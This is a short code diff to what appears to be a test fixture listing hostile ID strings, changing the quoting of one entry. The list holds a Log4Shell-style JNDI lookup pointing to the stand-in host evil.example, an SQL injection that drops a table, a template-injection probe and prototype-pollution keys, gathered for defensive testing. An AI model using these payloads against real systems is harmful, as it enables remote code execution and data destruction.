@@ -30,7 +30,7 @@ export const NASTY_IDS: readonly string[] = [
   "\u{1f600}".repeat(50),
   "'; DROP TABLE orders; --",
   "{{7*7}}",
-  "${jndi:ldap://evil.example/a}",
+  `\${jndi:ldap://evil.example/a}`,
   "__proto__",
   "constructor",
   "null",
